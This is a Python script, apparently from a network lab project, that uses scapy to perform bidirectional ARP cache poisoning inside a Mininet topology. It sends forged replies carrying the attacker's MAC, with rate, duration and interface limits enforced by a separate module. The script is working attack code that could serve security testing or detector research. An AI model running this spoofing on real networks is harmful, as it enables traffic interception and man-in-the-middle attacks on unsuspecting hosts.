"""ARP spoofing for the Mininet topology: forged replies from the attacker's own MAC, as arpspoof -r does.

Every round sends two unsolicited ARP replies, both with the attacker's interface MAC as
the Ethernet source and as the sender hardware address:
    to the victim:  "<claimed address> is at <attacker MAC>"   (the victim's cache is poisoned)
    to the owner:   "<victim address> is at <attacker MAC>"    (the other direction, -r)

    python scripts/traffic/arp_spoof.py --iface a7-eth0 --claim 10.0.0.2 --owner-mac 00:00:00:00:00:02 \\
        --victim 10.0.0.13 --victim-mac 00:00:00:00:00:0d --rate 2 --duration 4

Bounded: addresses inside the topology only, at most 20 rounds a second, 120 s, never on a
physical interface. Frames are built with scapy. Prints one JSON line.
"""
from __future__ import annotations

import argparse
import json
import sys
import time

from bounds import Pacer, check

MAX_ROUNDS_PER_S = 20


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--iface", required=True)
    parser.add_argument("--claim", required=True, help="the address claimed (the gateway's, say)")
    parser.add_argument("--owner-mac", required=True, help="the claimed address's real owner (told the reverse lie)")
    parser.add_argument("--victim", required=True, help="the host whose cache is poisoned")
    parser.add_argument("--victim-mac", required=True)
    parser.add_argument("--rate", type=float, required=True, help=f"rounds/s (2 frames each), at most "
                                                                  f"{MAX_ROUNDS_PER_S}")
    parser.add_argument("--duration", type=float, required=True)
    parser.add_argument("--one-way", action="store_true", help="only lie to the victim")
    args = parser.parse_args()
    check(parser, dst=args.claim, rate=args.rate, duration=args.duration, iface=args.iface,
          max_rate=MAX_ROUNDS_PER_S)
    check(parser, dst=args.victim)
    from scapy.all import ARP, Ether, conf

    with open(f"/sys/class/net/{args.iface}/address") as fh:
        own = fh.read().strip()
    frames = [Ether(src=own, dst=args.victim_mac) / ARP(op=2, hwsrc=own, psrc=args.claim, hwdst=args.victim_mac,
                                                        pdst=args.victim)]
    if not args.one_way:
        frames.append(Ether(src=own, dst=args.owner_mac) / ARP(op=2, hwsrc=own, psrc=args.victim,
                                                               hwdst=args.owner_mac, pdst=args.claim))
    raw = [bytes(f) for f in frames]
    sock = conf.L2socket(iface=args.iface)
    started_at = time.time()
    pacer = Pacer(args.rate, args.duration, time.monotonic)
    sent = 0
    try:
        while (due := pacer.due()) >= 0:
            if due == 0:
                time.sleep(0.01)
                continue
            pacer.done += 1
            for frame in raw:
                sock.send(frame)
                sent += 1
    finally:
        sock.close()
    print(json.dumps({"frames": sent, "rounds": pacer.done, "seconds": round(time.time() - started_at, 3),
                      "started_at": started_at}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
